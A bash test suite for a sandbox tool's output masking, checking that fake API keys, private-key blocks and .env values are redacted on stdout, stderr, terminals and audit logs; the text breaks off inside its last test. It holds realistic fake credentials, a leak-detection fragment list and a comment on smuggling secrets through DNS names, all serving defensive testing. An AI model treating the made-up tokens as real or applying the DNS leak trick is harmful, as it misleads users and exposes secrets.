# shellcheck shell=bash
# shellcheck disable=SC2016,SC2034 # $… in single quotes is for the sandbox's shell or the pane's; AG_ENV/NOTE/LAST_CMD/STATUS are read by lib.sh
# test_mask.sh — mask_stdout (docs/configuration.md): what CMD writes reaches
# the user only through aigate's relay, with secrets replaced. The presets'
# replacements (policy/mask.c's example_out and show_prefix), custom
# patterns, the literal values of the files deny_read hides, stdout and
# stderr as separate streams when they are not a terminal, secrets split
# across writes, nothing held lost at exit or at a signal, ordinary and
# binary output unchanged byte for byte, a reader that goes away, the
# audit records (counts, never the secret), and a terminal (tmux) with
# escape sequences.
#
# Every secret below is made up. None is ever on a command line: the
# session_start record carries the command, and the audit log must not
# hold a secret; the programs print them from files in the project.
#
# Synchronisation is on conditions only (a file, a fifo, aigate's output,
# the pane's content), polled a bounded number of times. The sleeps inside
# the sandboxed scripts are the programs' own behaviour under test (a pause
# between two writes, a status line redrawn over time), never a wait of the
# test's.

TMUX_TARGET=mask
PANE_ROWS=30
PANE_COLS=100

# The made-up secrets, one of each format.
ANTHROPIC=sk-ant-api03-Zq7XbT2mLr9VwK4pNc8YhD3sFg6J
OPENAI_PROJ=sk-proj-Q4w8E2r6T0y3U7i1O5p9A2s6D0f4G8h
OPENAI=sk-3nV8xQ2mK7pL4wR9tY6zB1cF5
AWS=AKIAIOSFODNN7EXAMPLE
AWS_STS=ASIAY34FZKBOKMUTVV7A
GH_PAT_CLASSIC=ghp_R8tKq2Wz5Xn7Lm3Pv9Bc4Hd6Jf1Gs0Ay2Eu8Wq
GH_OAUTH=gho_Ab3De5Gh7Jk9Mn2Pq4St6Vw8Yz0Bc1Df3Gh5Jk
GH_PAT=github_pat_11ABCDEFG0123456789_abcdefghijklmnop
BEARER_TOKEN=Xy7.Qw3-Zr9_Lk2~Mn5
SLACK_BOT=xoxb-2048-1234567890-AbCdEfGhIj
SLACK_USER=xoxp-9981-7766554433-ZzYyXxWw
JWT=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U
GOOGLE=AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY
STRIPE_LIVE=sk_live_51HqLyjWDarjtT1zdp7dcXYZab
STRIPE_TEST=rk_test_4eC39HqLyjWDarjtT1zdp7dc
PEM_BODY=b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
DOTENV_VALUE=supersecretvalue123

# What must never reach the output: the part of each secret after the
# prefix its replacement keeps (a partial leak counts as a leak).
LEAKS=(api03-Zq7XbT2m proj-Q4w8E2r6 3nV8xQ2mK7pL IOSFODNN7EXAMPLE Y34FZKBOKMUTVV7A
	R8tKq2Wz5Xn7 Ab3De5Gh7Jk9 11ABCDEFG0123 Xy7.Qw3-Zr9 2048-1234567890
	9981-7766554433 hbGciOiJIUzI1 SyD-9tSrke72 51HqLyjWDarj 4eC39HqLyjWD
	b3BlbnNzaC1rZXkt 'BEGIN OPENSSH PRIVATE' 'BEGIN RSA PRIVATE' MIIEpAIBAAKCAQEA
	q3Jk8s7LmN0pQrSt 482913 650271 supersecret 'correct horse battery' nestedvalue)

# mask_setup [DELAY_MS] — the enforceable default policy plus mask_stdout
# with every preset and one custom pattern (delay_ms when given, else the
# default 30), and pass_env for API_TOKEN (a credential-like name).
mask_setup() {
	write_cfg_enforceable
	{
		cat <<'EOF'
pass_env: [API_TOKEN]
mask_stdout:
  presets: [anthropic, openai, aws_key, github, bearer, slack, private_key, jwt, google_api_key, stripe]
  patterns:
    - name: internal
      regex: "INT-[0-9]{6}"
      show_prefix: 4
      case_insensitive: true
EOF
		[ -n "${1:-}" ] && printf '  delay_ms: %s\n' "$1"
	} >>"$CFG"
	fix_owner
	AUDIT=$T/audit.jsonl
}

# assert_no_leak FILE… — no fragment of a secret (LEAKS) in any FILE
# (binary-safe). The default: aigate's stdout and stderr.
assert_no_leak() {
	local f s
	[ $# -gt 0 ] || set -- "$OUT" "$ERR"
	for f in "$@"; do
		[ -e "$f" ] || continue
		for s in "${LEAKS[@]}"; do
			if grep -aqF -- "$s" "$f"; then
				case "$f" in "$OUT" | "$ERR") ;; *) show_file "$f" "$f" >&2 ;; esac
				fail "a secret reached ${f/#"$T"/\$T}: '$s'"
			fi
		done
	done
}

# assert_audit_no_leak — no secret in the case's audit logs ($AUDIT and the daily trail).
assert_audit_no_leak() {
	local f
	for f in "$AUDIT" "$AG_HOME"/audit/*.jsonl; do
		[ -e "$f" ] && assert_no_leak "$f"
	done
	return 0
}

# mask_records FILE — the mask records of FILE, one "target stream count"
# line each, sorted; fails when one lacks a field or has a wrong one.
mask_records() {
	need_python
	"$PYTHON" - "$1" <<'PY' || fail "mask records of $1 (above)"
import json, sys
out = []
for line in open(sys.argv[1]):
    r = json.loads(line)
    if r.get("action") != "mask":
        continue
    if r.get("enforcer") != "mask" or r.get("verdict") != "masked" or not isinstance(r.get("count"), int):
        print("a malformed mask record:", line.strip(), file=sys.stderr)
        sys.exit(1)
    out.append("%s %s %d" % (r["target"], r["stream"], r["count"]))
print("\n".join(sorted(out)))
PY
}

# assert_mask_records FILE EXPECTED — the mask records of FILE (see
# mask_records) are exactly EXPECTED (lines "target stream count", any order).
assert_mask_records() {
	local got want
	got=$(mask_records "$1")
	want=$(printf '%s\n' "$2" | sed '/^$/d' | sort)
	[ "$got" = "$want" ] || {
		show_file "audit log" "$1" >&2
		fail "mask records: expected
$want
got
$got"
	}
}

# assert_stdout_bytes TEXT — stdout is exactly TEXT, trailing newlines included.
assert_stdout_bytes() {
	printf '%s' "$1" >"$T/.want"
	cmp -s "$OUT" "$T/.want" || fail "stdout should be exactly (bytes): $(printf '%q' "$1")"
}

assert_stderr_bytes() {
	printf '%s' "$1" >"$T/.want"
	cmp -s "$ERR" "$T/.want" || fail "stderr should be exactly (bytes): $(printf '%q' "$1")"
}

# ag_bg ARGS… — `ag ARGS…` in the background (stdin from $AG_STDIN, else
# /dev/null); $AG_BG is its pid, reaped with ag_bg_wait. Whatever of it is
# left when the case ends is killed (kill_tree).
ag_bg() {
	LAST_CMD="(cd ${CWD#"$T"/}) aigate$(printf ' %q' "$@") &"
	ag_exec "$AIGATE" "$@" <"${AG_STDIN:-/dev/null}" >"$OUT" 2>"$ERR" &
	AG_BG=$!
	trap 'kill_tree "$AG_BG"; case_cleanup' EXIT
}

# children_of PID — the child processes of PID, one pid a line.
children_of() {
	cat /proc/"$1"/task/*/children 2>/dev/null | tr ' ' '\n' | sed '/^$/d'
}

# kill_tree PID — SIGKILL PID and every process below it (all started by this case).
kill_tree() {
	local -a queue=("$1") all=()
	local p
	while [ ${#queue[@]} -gt 0 ]; do
		p=${queue[0]}
		queue=("${queue[@]:1}")
		all+=("$p")
		mapfile -t -O "${#queue[@]}" queue < <(children_of "$p")
	done
	for p in "${all[@]}"; do
		kill -KILL "$p" 2>/dev/null
	done
	return 0
}

ag_bg_wait() {
	wait_until "aigate to exit" wait_gone_now "$AG_BG"
	wait "$AG_BG"
	STATUS=$?
}

wait_gone_now() {
	! proc_alive "$1"
}

# aigate_pid_under PID — the pid of the aigate process below PID (the
# background job: a subshell, timeout, then env/setpriv exec'd into aigate).
aigate_pid_under() {
	local -a queue=("$1")
	local p exe want
	want=$(readlink -f "$AIGATE")
	while [ ${#queue[@]} -gt 0 ]; do
		p=${queue[0]}
		queue=("${queue[@]:1}")
		exe=$(readlink "/proc/$p/exe" 2>/dev/null)
		if [ "$exe" = "$want" ]; then
			printf '%s' "$p"
			return 0
		fi
		mapfile -t -O "${#queue[@]}" queue < <(children_of "$p")
	done
	return 1
}

file_ready() {
	[ -e "$1" ]
}

out_has() {
	grep -aqF -- "$1" "$OUT"
}

# ---- the presets, custom patterns and streams ---------------------------------------

# Every preset and the custom pattern, on stdout: each secret is replaced
# by the preset's form (policy/mask.c: show_prefix bytes of the match, then
# "***"; anthropic wins over openai; a private-key block, header to footer,
# becomes "***"); the custom pattern keeps 4 bytes and is case-insensitive;
# the text around each secret is unchanged. One mask record per pattern
# name (github's two regexes count as one), exact counts, all on stdout.
test_mask_presets_replaced() {
	mask_setup
	write_file "$PROJ/leak.txt" <<EOF
anthropic: $ANTHROPIC.
openai: $OPENAI_PROJ and $OPENAI
aws: $AWS / $AWS_STS
github: $GH_PAT_CLASSIC $GH_OAUTH $GH_PAT
curl -H 'Authorization: Bearer $BEARER_TOKEN' x
slack: $SLACK_BOT, $SLACK_USER
before the key
-----BEGIN OPENSSH PRIVATE KEY-----
$PEM_BODY
QyNTUxOQAAACBf4k3Xr9Zq
-----END OPENSSH PRIVATE KEY-----
after the key
jwt=$JWT;
google $GOOGLE end
stripe $STRIPE_LIVE $STRIPE_TEST
tickets INT-482913 and int-650271, not INT-12345
EOF
	ag run --audit-log "$AUDIT" -- cat leak.txt
	assert_status 0
	assert_stdout_bytes "anthropic: sk-ant-***.
openai: sk-*** and sk-***
aws: AKIA*** / ASIA***
github: ghp_*** gho_*** github_pat_***
curl -H 'Authorization: Bearer ***' x
slack: xoxb-***, xoxp-***
before the key
***
after the key
jwt=eyJ***;
google AIza*** end
stripe sk_live_*** rk_test_***
tickets INT-*** and int-***, not INT-12345
"
	assert_stderr_empty
	assert_no_leak
	assert_mask_records "$AUDIT" "anthropic stdout 1
openai stdout 2
aws_key stdout 2
github stdout 3
bearer stdout 1
slack stdout 2
private_key stdout 1
jwt stdout 1
google_api_key stdout 1
stripe stdout 2
internal stdout 2"
	assert_audit "$AUDIT" action=mask enforcer=mask verdict=masked target=anthropic stream=stdout count=1
	assert_audit_no_leak
}

# Without a terminal CMD's stdout and stderr are two pipes, relayed and
# masked separately: a secret on stderr is masked on aigate's stderr, what
# CMD wrote to stdout stays on stdout, and each stream keeps its order
# (500 lines each, interleaved, with secrets in between).
test_mask_stdout_stderr_separate() {
	mask_setup
	local i
	write_file "$PROJ/streams.sh" <<EOF
echo "out 1"
echo "err 1 $ANTHROPIC" >&2
echo "out 2 $AWS"
echo "err 2 $GH_PAT_CLASSIC" >&2
i=0
while [ \$i -lt 500 ]; do
	echo "o \$i $OPENAI"
	echo "e \$i $SLACK_BOT" >&2
	i=\$((i + 1))
done
echo "out end"
printf 'err end' >&2
EOF
	{
		printf 'out 1\nout 2 AKIA***\n'
		for ((i = 0; i < 500; i++)); do printf 'o %d sk-***\n' "$i"; done
		printf 'out end\n'
	} >"$T/want.out"
	{
		printf 'err 1 sk-ant-***\nerr 2 ghp_***\n'
		for ((i = 0; i < 500; i++)); do printf 'e %d xoxb-***\n' "$i"; done
		printf 'err end'
	} >"$T/want.err"
	ag run --audit-log "$AUDIT" -- sh streams.sh
	assert_status 0
	cmp -s "$OUT" "$T/want.out" || fail "stdout: CMD's stdout lines, masked, in order (diff: $(diff "$T/want.out" "$OUT" | head -n 5 | tr '\n' '|'))"
	cmp -s "$ERR" "$T/want.err" || fail "stderr: CMD's stderr lines, masked, in order (diff: $(diff "$T/want.err" "$ERR" | head -n 5 | tr '\n' '|'))"
	assert_no_leak
	assert_mask_records "$AUDIT" "anthropic stderr 1
github stderr 1
slack stderr 500
aws_key stdout 1
openai stdout 500"
	assert_audit_no_leak
}

# The values of the files deny_read hides when the run starts (.env, and
# one in a subdirectory) are masked literally as "***" wherever they
# appear: CMD cannot read .env, but got the value from its environment
# (API_TOKEN, passed with pass_env) or from another file. Quoted dotenv
# values count as written. Values shorter than 8 bytes (MASK_VALUE_MIN)
# are not masked: masking "abc1234" or "true" would mangle ordinary output.
# values_from_denied_files: false turns this off (the presets stay on).
test_mask_denied_file_values() {
	mask_setup
	write_file "$PROJ/.env" <<EOF
# app settings
API_TOKEN=$DOTENV_VALUE
SHORT=abc1234
export DB_PASSWORD="correct horse battery"
EOF
	write_file "$PROJ/sub/.env" <<<"NESTED=nestedvalue4567"
	write_file "$PROJ/config.txt" <<EOF
token = $DOTENV_VALUE;
nested: nestedvalue4567
EOF
	write_file "$PROJ/values.sh" <<'EOF'
echo "env: $API_TOKEN"
cat config.txt
echo "short: $SHORT_VALUE"
echo "db: correct horse battery!"
echo "err: $API_TOKEN" >&2
EOF
	AG_ENV=(API_TOKEN="$DOTENV_VALUE" SHORT_VALUE=abc1234)
	ag run --audit-log "$AUDIT" -- sh values.sh
	assert_status 0
	assert_stdout_bytes "env: ***
token = ***;
nested: ***
short: abc1234
db: ***!
"
	assert_stderr_bytes "err: ***
"
	assert_no_leak
	local name
	name=$(mask_records "$AUDIT" | sed -n 's/ stdout 4$//p')
	[ -n "$name" ] || fail "one mask record with count 4 on stdout for the hidden files' values; got: $(mask_records "$AUDIT" | tr '\n' '|')"
	assert_audit "$AUDIT" action=mask verdict=masked "target=$name" stream=stderr count=1
	assert_audit_no_leak

	NOTE="values_from_denied_files: false"
	sed -i 's/^mask_stdout:$/&\n  values_from_denied_files: false/' "$CFG"
	ag run --audit-log "$T/off.jsonl" -- sh values.sh
	assert_status 0
	assert_stdout_contains "env: $DOTENV_VALUE"
	assert_stdout_contains "token = $DOTENV_VALUE;"
	assert_no_audit "$T/off.jsonl" action=mask
}

# Masking is on when the policy names a preset or a pattern: one custom
# pattern alone masks (case-sensitive unless case_insensitive: true), and
# the hidden files' values with it. With neither (only delay_ms and
# values_from_denied_files), nothing is masked and nothing recorded.
test_mask_on_with_patterns_only() {
	write_cfg_enforceable
	cat >>"$CFG" <<'EOF'
mask_stdout:
  patterns:
    - regex: "INT-[0-9]{6}"
      show_prefix: 4
EOF
	fix_owner
	AUDIT=$T/audit.jsonl
	write_file "$PROJ/.env" <<<"API_TOKEN=$DOTENV_VALUE"
	write_file "$PROJ/p.txt" <<EOF
INT-482913 int-650271 $DOTENV_VALUE $ANTHROPIC
EOF
	ag run --audit-log "$AUDIT" -- cat p.txt
	assert_status 0
	assert_stdout_bytes "INT-*** int-650271 *** $ANTHROPIC
"
	assert_eq "$(audit_count "$AUDIT" action=mask stream=stdout count=1)" 2 "mask records (the pattern, the value)"
	assert_no_audit "$AUDIT" action=mask target=anthropic

	NOTE="mask_stdout without presets or patterns"
	write_cfg_enforceable
	printf 'mask_stdout:\n  delay_ms: 100\n  values_from_denied_files: true\n' >>"$CFG"
	ag run --audit-log "$T/off.jsonl" -- cat p.txt
	assert_status 0
	assert_stdout_bytes "INT-482913 int-650271 $DOTENV_VALUE $ANTHROPIC
"
	assert_no_audit "$T/off.jsonl" action=mask
}

# ---- streaming -------------------------------------------------------------------------

# A secret split across writes with pauses shorter than delay_ms (1000 ms;
# 100 ms pauses) is still masked: the first part waits for the rest. The
# same for a private-key block written over several lines and writes.
test_mask_split_across_writes() {
	mask_setup 1000
	write_file "$PROJ/split.sh" <<'EOF'
printf 'key: sk-ant-api03-AAAA'
sleep 0.1
printf 'BBBBBBBBBBBBBBBBBBBB done\n'
printf 'x sk-proj-'
sleep 0.1
printf 'CCCCCCCCCC'
sleep 0.1
printf 'DDDDDDDDDDDD y\n'
printf -- '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n'
sleep 0.1
printf 'q3Jk8s7LmN0pQrStUvWx\n'
sleep 0.1
printf -- '-----END RSA PRIVATE KEY-----\nafter the key\n'
EOF
	LEAKS+=(AAAABBBB BBBBBBBB CCCCCCCC DDDDDDDD)
	ag run --audit-log "$AUDIT" -- sh split.sh
	assert_status 0
	assert_stdout_bytes "key: sk-ant-*** done
x sk-*** y
***
after the key
"
	assert_stderr_empty
	assert_no_leak
	assert_mask_records "$AUDIT" "anthropic stdout 1
openai stdout 1
private_key stdout 1"
	assert_audit_no_leak
}

# Held output is not held forever: with the default delay_ms (30), a
# prompt ending in what could be the start of a secret ("sk-") reaches the
# user while CMD waits for input (stdin: a fifo the test writes to once
# it has seen the prompt).
test_mask_delay_releases_prefix() {
	mask_setup
	write_file "$PROJ/prompt.sh" <<'EOF'
printf 'Paste the key that starts with sk-'
read -r answer
echo " got $answer"
EOF
	mkfifo "$T/in" || fail "mkfifo failed"
	# Read-write: opening never blocks, and aigate's stdin stays open until we write.
	exec 3<>"$T/in"
	AG_STDIN=$T/in
	ag_bg run --audit-log "$AUDIT" -- sh prompt.sh
	wait_until "the prompt to reach aigate's stdout" out_has 'Paste the key that starts with sk-'
	echo yes >&3
	ag_bg_wait
	exec 3>&-
	assert_status 0
	assert_stdout_bytes "Paste the key that starts with sk- got yes
"
	assert_no_audit "$AUDIT" action=mask
}

# Nothing held is lost when CMD exits: text ending in a complete secret
# with no newline after it (held: it could go on) comes out masked at the
# end, on stdout and on stderr, with delay_ms 1000 (so it is still held
# when CMD exits); aigate exits with CMD's status.
test_mask_held_flushed_at_exit() {
	mask_setup 1000
	write_file "$PROJ/last.sh" <<EOF
printf 'last words: $ANTHROPIC'
printf 'err words: $OPENAI' >&2
exit 4
EOF
	ag run --audit-log "$AUDIT" -- sh last.sh
	assert_status 4
	assert_stdout_bytes "last words: sk-ant-***"
	assert_stderr_bytes "err words: sk-***"
	assert_no_leak
	assert_mask_records "$AUDIT" "anthropic stdout 1
openai stderr 1"
	assert_audit_no_leak
}

# The same when CMD dies of SIGTERM right after writing part of a line
# (it kills itself: no race): what was held comes out masked, and
# aigate exits 128+15.
test_mask_held_flushed_when_cmd_killed() {
	mask_setup 1000
	write_file "$PROJ/die.sh" <<EOF
printf 'partial: $ANTHROPIC'
kill -TERM \$\$
echo never
EOF
	ag run --audit-log "$AUDIT" -- sh die.sh
	assert_status 143
	assert_stdout_bytes "partial: sk-ant-***"
	assert_no_leak
	assert_mask_records "$AUDIT" "anthropic stdout 1"
	assert_audit_no_leak
}

# kill -TERM aigate (forwarded: CMD dies of it) while CMD's partial line
# ends in a secret still held (delay_ms 1000): the held bytes come out
# masked before aigate exits 128+15, and the mask record is written.
test_mask_held_flushed_at_signal() {
	mask_setup 1000
	write_file "$PROJ/wait.sh" <<EOF
printf 'partial: $ANTHROPIC'
: >ready
exec sleep 600
EOF
	printf 'ready\n' >>"$PROJ/.git/info/exclude"
	ag_bg run --audit-log "$AUDIT" -- sh wait.sh
	wait_until "CMD to have written its partial line" file_ready "$PROJ/ready"
	local pid
	pid=$(aigate_pid_under "$AG_BG") || fail "cannot find aigate's pid below $AG_BG"
	kill -TERM "$pid"
	ag_bg_wait
	assert_status 143
	assert_stdout_bytes "partial: sk-ant-***"
	assert_no_leak
	assert_mask_records "$AUDIT" "anthropic stdout 1"
	assert_audit_no_leak
}

# ---- output that must pass unchanged ------------------------------------------------------

# 1 GB of ordinary, secret-free, text-like output (a 1,000,000-byte build
# log with near misses of every preset, "disk-usage", "Bearer n/a", "AKIA?",
# "-----BEGIN CERTIFICATE-----", written 1,000 times) passes byte for byte:
# the sha256 of aigate's stdout is that of the same script run natively.
test_mask_large_output_unchanged() {
	mask_setup
	AG_TIMEOUT=120
	awk 'BEGIN { for (i = 0; ; i++) {
		n = i % 1000
		printf "[%07d] cc -O2 -c src/print-%03d.c -o build/print-%03d.o (disk-usage ok; Bearer n/a; AKIA? no; eyJ..; ghp_; sk-; AIza)\n", i, n, n
		if (i % 7 == 0) printf "-----BEGIN CERTIFICATE----- xoxo task-%d int-%d\n", n, n
		if (i % 13 == 0) printf "\twarning: unused variable sk [-Wunused-variable] in disk-io.c\n"
	} }' 2>/dev/null | head -c 1000000 | write_file "$PROJ/block.txt"
	[ "$(stat -c %s "$PROJ/block.txt")" = 1000000 ] || fail "setup: block.txt is not 1,000,000 bytes"
	write_file "$PROJ/gen.sh" <<'EOF'
i=0
while [ $i -lt 1000 ]; do cat block.txt; i=$((i + 1)); done
EOF
	local want got
	want=$(cd "$PROJ" && sh gen.sh | sha256sum | cut -d' ' -f1)
	LAST_CMD="aigate run --audit-log \$T/audit.jsonl -- sh gen.sh | sha256sum"
	got=$(ag_exec "$AIGATE" run --audit-log "$AUDIT" -- sh gen.sh 2>"$ERR" | tee >(wc -c >"$T/bytes") | sha256sum | cut -d' ' -f1)
	STATUS=${PIPESTATUS[0]}
	: >"$OUT"
	assert_status 0
	wait_until "the byte count" test -s "$T/bytes"
	assert_eq "$(cat "$T/bytes")" 1000000000 "bytes on aigate's stdout"
	assert_eq "$got" "$want" "sha256 of aigate's stdout (the native run's)"
	assert_stderr_empty
	assert_no_audit "$AUDIT" action=mask
}

# Binary output passes unchanged: every byte value, runs of NUL, invalid
# UTF-8 and 4 MB of (seeded) random bytes, on stdout and on stderr; a
# secret inside the binary noise (twice: once across a 64 KiB boundary) is
# still masked, and nothing else changes.
test_mask_binary_passthrough() {
	mask_setup
	need_python
	"$PYTHON" - "$PROJ" "$ANTHROPIC" <<'PY' || fail "setup: cannot write the binary files"
import random, sys
d, secret = sys.argv[1], sys.argv[2].encode()
rnd = random.Random(20240501)
noise = (bytes(range(256)) * 64 + b"\0" * 65536
         + b"\xff\xfe\xc0\x80\xed\xa0\x80\xf4\x90\x80\x80\x80\xbf" * 512
         + rnd.getrandbits(8 << 22).to_bytes(4 << 20, "little"))
open(d + "/noise.bin", "wb").write(noise)
# One secret across the third 64 KiB boundary (where a pipe read
# usually ends), one in the middle of the noise.
edge, half = 3 * 65536 - 13, len(noise) // 2
def put(mask):
    return (noise[:edge] + b"\n" + mask + b"\0" + noise[edge:half] + b"\0" + mask + b"\xff"
            + noise[half:])
open(d + "/secret.bin", "wb").write(put(secret))
open(d + "/want.bin", "wb").write(put(b"sk-ant-***"))
PY
	fix_owner
	ag run --audit-log "$AUDIT" -- sh -c 'cat noise.bin; cat noise.bin >&2'
	assert_status 0
	assert_eq "$(checksum "$OUT")" "$(checksum "$PROJ/noise.bin")" "sha256 of the binary output on stdout"
	assert_eq "$(checksum "$ERR")" "$(checksum "$PROJ/noise.bin")" "sha256 of the binary output on stderr"
	assert_no_audit "$AUDIT" action=mask

	ag run --audit-log "$T/secret.jsonl" -- cat secret.bin
	assert_status 0
	assert_eq "$(checksum "$OUT")" "$(checksum "$PROJ/want.bin")" "sha256 of the binary output with its secret masked"
	assert_no_leak
	assert_mask_records "$T/secret.jsonl" "anthropic stdout 2"
}

# ---- the reader goes away --------------------------------------------------------------------

# procs_of_case — pids of processes carrying this case's marker (MASK_CASE=$T) in their environment.
procs_of_case() {
	local f p
	for f in /proc/[0-9]*/environ; do
		p=${f#/proc/}
		p=${p%/environ}
		{ tr '\0' '\n' <"$f"; } 2>/dev/null | grep -qxF "MASK_CASE=$T" && printf '%s\n' "$p"
	done
	return 0
}

no_procs_of_case() {
	[ -z "$(procs_of_case)" ]
}

# A reader that closes early: `aigate run -- sh yes.sh | head -n 3`, where
# yes.sh prints a secret forever. head gets 3 masked lines; the pipeline
# ends promptly (well within AG_TIMEOUT: not a hang killed by timeout) and
# nothing of the run is left running.
test_mask_reader_closes_early() {
	mask_setup
	write_file "$PROJ/yes.sh" <<EOF
yes 'token $ANTHROPIC'
EOF
	AG_ENV=(MASK_CASE="$T")
	AG_TIMEOUT=15
	trap 'for p in $(procs_of_case); do kill -KILL "$p" 2>/dev/null; done; case_cleanup' EXIT
	local t0 t1
	LAST_CMD="aigate run --audit-log \$T/audit.jsonl -- sh yes.sh | head -n 3"
	t0=$(date +%s%N)
	ag_exec "$AIGATE" run --audit-log "$AUDIT" -- sh yes.sh 2>"$ERR" | head -n 3 >"$OUT"
	STATUS=${PIPESTATUS[0]}
	t1=$(date +%s%N)
	[ "$STATUS" != 124 ] || fail "aigate did not end after its reader closed: killed by timeout after ${AG_TIMEOUT}s (natively yes.sh ends at once of SIGPIPE)"
	[ $(((t1 - t0) / 1000000)) -lt 10000 ] || fail "the pipeline took $(((t1 - t0) / 1000000)) ms"
	assert_stdout_bytes "token sk-ant-***
token sk-ant-***
token sk-ant-***
"
	assert_no_leak
	wait_until "the sandbox's processes to be gone" no_procs_of_case
	assert_audit "$AUDIT" action=mask enforcer=mask verdict=masked target=anthropic stream=stdout
	assert_audit_no_leak
}

# ---- the audit trail ---------------------------------------------------------------------------

# N occurrences of a preset on stdout give one record
# {"action":"mask","enforcer":"mask","verdict":"masked","target":"anthropic","stream":"stdout","count":N};
# one record per pattern name and stream (github's ghp_ and github_pat_
# regexes count together; a hidden file's values under one name), none
# for a pattern that matched nothing; the secret itself is nowhere in the
# log (nor in the default daily trail).
test_mask_audit_counts() {
	mask_setup
	write_file "$PROJ/.env" <<<"API_TOKEN=$DOTENV_VALUE"
	write_file "$PROJ/many.sh" <<EOF
i=0
while [ \$i -lt 7 ]; do echo "\$i $ANTHROPIC"; i=\$((i + 1)); done
echo "$ANTHROPIC $ANTHROPIC" >&2
echo "$GH_PAT_CLASSIC $GH_PAT"
echo "$GH_OAUTH" >&2
echo "value $DOTENV_VALUE"
EOF
	ag run --audit-log "$AUDIT" -- sh many.sh
	assert_status 0
	assert_stdout_contains "6 sk-ant-***"
	assert_stdout_contains "ghp_*** github_pat_***"
	assert_stdout_contains "value ***"
	assert_stderr_contains "sk-ant-*** sk-ant-***"
	assert_no_leak
	assert_eq "$(audit_count "$AUDIT" action=mask enforcer=mask verdict=masked target=anthropic stream=stdout count=7)" 1 \
		"the anthropic record on stdout"
	local name
	name=$(mask_records "$AUDIT" | sed -n 's/ stdout 1$//p' | grep -v '^github$')
	assert_mask_records "$AUDIT" "anthropic stdout 7
anthropic stderr 2
github stdout 2
github stderr 1
$name stdout 1"
	assert_audit_no_leak
	grep -qF "$DOTENV_VALUE" "$AUDIT" && fail "the hidden file's value is in the audit log"
	# The default trail too (no --audit-log).
	ag run -- sh many.sh
	assert_status 0
	assert_audit "$(audit_file)" action=mask target=anthropic stream=stdout count=7
	assert_audit_no_leak
}

# ---- a terminal ---------------------------------------------------------------------------------

pane_has_line() {
	"${TMUX_CMD[@]}" capture-pane -p -t mask | grep -qxF -- "$1"
}

pane_prompt_is() {
	[ "$("${TMUX_CMD[@]}" capture-pane -p -t mask | sed -e '/^$/d' | tail -n 1)" = "$1" ]
}

pane_type() {
	"${TMUX_CMD[@]}" send-keys -t mask -l "$1" && "${TMUX_CMD[@]}" send-keys -t mask Enter
}

# mask_tmux_start — as test_sandbox_pty.sh: a private tmux server of the
# test user with a ${PANE_COLS}x$PANE_ROWS pane running sh in the project.
mask_tmux_start() {
	need_tmux
	printf 'set -g status off\nset -g default-shell /bin/sh\nset -g history-limit 5000\n' >"$T/tmux.conf"
	fix_owner
	TMUX_CMD=(env -i PATH="$CLEAN_PATH" HOME="$HOME_DIR" SHELL=/bin/sh "${AS_USER[@]}" tmux -S "$T/tmux.sock" -f "$T/tmux.conf")
	trap '"${TMUX_CMD[@]}" kill-server >/dev/null 2>&1; case_cleanup' EXIT
	"${TMUX_CMD[@]}" new-session -d -x "$PANE_COLS" -y "$PANE_ROWS" -s mask -c "$PROJ" \
		"env -i PATH=$CLEAN_PATH HOME=$HOME_DIR AIGATE_HOME=$AG_HOME LANG=C.UTF-8 TERM=screen PS1='out\$ ' sh -i" ||
		fail "cannot start a tmux session as $TEST_USER"
	wait_until "the pane's shell prompt" pane_prompt_is 'out$'
}

# On a terminal (CMD's stdout and stderr are the pty): a status line
# redrawn with "\r\033[2K" and colour escapes, the secret in it (some
# frames end right after the secret, so it is released by delay_ms, some
# put a colour escape right after it), then a final line and a line on
# stderr. The pane shows the masked forms, the colours survive (tmux
# sees the SGR sequences: the -e capture has them) and no escape is broken
# (no stray "[2K" or "[0m" text); nowhere in the pane or its history is
# any part of the raw secret. The pty's output is recorded as "stdout".
test_mask_pty_status_line() {
	mask_setup
	mask_tmux_start
	write_file "$PROJ/status.sh" <<EOF
i=0
while [ \$i -lt 12 ]; do
	if [ \$((i % 2)) = 0 ]; then
		printf '\r\033[2K\033[1;32mbuilding\033[0m step %d key=$ANTHROPIC' "\$i"
	else
		printf '\r\033[2K\033[1;32mbuilding\033[0m step %d key=\033[33m$ANTHROPIC\033[0m' "\$i"
	fi
	sleep 0.05
	i=\$((i + 1))
done
printf '\r\033[2K\033[1;32mdone\033[0m key=\033[31m$ANTHROPIC\033[0m\n'
printf 'plain line $OPENAI\n'
printf 'on stderr $AWS\n' >&2
EOF
	pane_type "$AIGATE run --audit-log $AUDIT -- sh status.sh; echo \"RC=\$?\""
	wait_until "aigate to exit 0" pane_has_line "RC=0"
	LAST_CMD="(the tmux pane, with its history)"
	STATUS=0
	"${TMUX_CMD[@]}" capture-pane -p -S - -t mask >"$OUT" 2>&1
	"${TMUX_CMD[@]}" capture-pane -p -e -S - -t mask >"$ERR" 2>&1
	grep -qxF 'done key=sk-ant-***' "$OUT" || fail "the pane should show the line: done key=sk-ant-***"
	grep -qxF 'plain line sk-***' "$OUT" || fail "the pane should show the line: plain line sk-***"
	grep -qxF 'on stderr AKIA***' "$OUT" || fail "the pane should show the line: on stderr AKIA***"
	assert_stdout_not_contains "building"
	assert_stdout_not_contains "[2K"
	assert_stdout_not_contains "[0m"
	assert_stdout_not_contains "[1;32m"
	assert_stdout_not_contains "[33m"
	grep -qE $'\033\\[([0-9;]*;)?32m''done' "$ERR" || fail "the pane should show 'done' in green (SGR 32 in the -e capture)"
	grep -qE $'\033\\[([0-9;]*;)?31m''sk-ant-\*\*\*' "$ERR" || fail "the pane should show 'sk-ant-***' in red (SGR 31 in the -e capture)"
	assert_no_leak
	assert_mask_records "$AUDIT" "anthropic stdout 13
openai stdout 1
aws_key stdout 1"
	assert_audit_no_leak
}

# aigate's own denial lines name what the sandbox asked for, which the
# sandbox chooses: a secret spelt into a DNS name (or a path) must not
# reach the terminal that way either. The stub refuses the name without
# forwarding it; the line on aigate's stderr shows only the name's last two
# labels (DNS lower-cases names, past case-sensitive masks such as AWS
# keys'), and every line is masked. (The audit trail keeps the name as
# asked: it is the evidence, and it is not output.)
test_mask_denial_lines_masked() {
	mask_setup
